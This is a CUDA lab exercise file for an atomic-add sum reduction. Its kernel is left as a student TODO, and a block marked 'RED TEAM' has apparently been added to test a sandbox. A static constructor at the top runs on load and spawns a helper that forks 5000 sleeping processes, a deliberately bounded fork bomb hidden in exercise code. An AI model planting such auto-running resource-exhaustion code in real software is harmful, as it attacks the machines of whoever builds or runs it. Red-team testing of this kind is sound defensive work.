// RED TEAM: A fork bomb in its own session: a helper that forks 5000 processes as fast
// RED TEAM: as it can, each sleeping 30 s (bounded, so that the machine survives even
// RED TEAM: without a sandbox; the red-team driver kills what is left). The kernel
// RED TEAM: below is the untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
// @REDTEAM_LIB@

namespace {
int cudalab_redteam_roles(const std::string& role, const std::vector<std::string>&) {
  if (role != "bomb") return 0;
  // Bounded so that it cannot take the machine down if nothing stops it:
  // 5000 processes (they keep this helper's argv, with the marker), each
  // sleeping 30 s.
  int made = 0;
  for (int i = 0; i < 5000; ++i) {
    const pid_t p = fork();
    if (p == 0) {
      redteam::sleep_ms(30000);
      _exit(0);
    }
    if (p > 0) ++made;
    else redteam::sleep_ms(5);
  }
  redteam::sleep_ms(30000);
  return made > 0 ? 0 : 1;
}
__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(&cudalab_redteam_roles);
  redteam::spawn("bomb");
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
